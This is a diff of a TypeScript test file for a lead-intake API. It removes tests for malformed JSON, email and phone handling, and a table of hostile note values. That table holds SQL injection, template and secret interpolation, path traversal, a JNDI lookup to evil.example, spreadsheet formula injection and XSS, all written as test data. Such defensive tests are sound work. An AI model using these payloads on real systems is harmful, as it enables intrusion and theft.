@@ -25,22 +25,7 @@ async function fieldsOf(answer: Response): Promise<string[]> {
   return JSON.parse(text).errors.map((error: { field: string }) => error.field)
 }
 
-const deliveredField = (field: string): unknown => JSON.parse(harness.webhook.hits[0]?.body ?? "{}").data.request[field]
-
 const nested = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth)
-
-test.each([
-  ["invalid JSON", "{"],
-  ["nothing", ""],
-  ["a byte-order mark", `\uFEFF${JSON.stringify(wire())}`],
-  ["a key that comes twice", `{"name":"Bo",${JSON.stringify(wire()).slice(1)}`],
-  ["NaN", '{"price":NaN}'],
-])("a body that is %s is answered 400, and nothing is kept", async (_, body) => {
-  const answer = await send(body)
-  expect(answer.status).toBe(400)
-  expect(await fieldsOf(answer)).toEqual([""])
-  expect(harness.blobs.keys("lead")).toEqual([])
-})
 
 test.each([
   ["10,000 lists in each other", nested(10_000, "[", "]")],
@@ -98,48 +83,6 @@ test.each([
   expect(answer.status).toBe(422)
   expect((await fieldsOf(answer))[0]).toMatch(/__proto__|constructor/)
   expect({}).not.toHaveProperty("polluted")
-})
-
-test.each([
-  ["o'brien@example.com", "o'brien@example.com"],
-  ["mai+quotes@example.com", "mai+quotes@example.com"],
-  ["mai@xn--bcher-kva.example", "mai@xn--bcher-kva.example"],
-  [`${"a".repeat(64)}@example.com`, `${"a".repeat(64)}@example.com`],
-])("the email %s is taken", async (typed, email) => {
-  expect((await sendWire({ email: typed })).status).toBe(201)
-  expect(deliveredField("email")).toBe(email)
-})
-
-test.each([
-  ["0412 345 678", "+61412345678"],
-  ["+61 412 345 678", "+61412345678"],
-  ["1300 975 707", "+611300975707"],
-  ["13 11 14", "+61131114"],
-  ["(02) 9876 5432", "+61298765432"],
-  ["+64 21 123 4567", "+64211234567"],
-  ["٠٤١٢٣٤٥٦٧٨", "+61412345678"],
-  ["0000000000", null],
-  ["ask my sister", null],
-])("the phone %s, when no call was asked for, is kept as typed and read as %p", async (typed, e164) => {
-  expect((await sendWire({ contactBy: "email", phone: typed })).status).toBe(201)
-  expect(deliveredField("phone")).toEqual({ typed, e164 })
-})
-
-test.each([
-  "'; DROP TABLE leads; --",
-  "${process.env.LEAD_WEBHOOK_SECRET}",
-  "{{7*7}}",
-  "../../../etc/passwd",
-  "${jndi:ldap://evil.example/a}",
-  "=cmd|'/C calc'!A0",
-  "+1",
-  "@SUM(1+1)",
-  "<script>alert(1)</script>",
-])("the note %s is kept and sent as it is, and names nothing in the store", async note => {
-  expect((await sendWire({ note })).status).toBe(201)
-  expect(deliveredField("note")).toBe(note)
-  const keys = ["lead", "quote", "pending", "done"].flatMap(harness.blobs.keys)
-  expect(keys.every(key => /^[\w-]{26}$/.test(key))).toBe(true)
 })
 
 test("a megabyte for a validator is refused before any validator sees it", async () => {
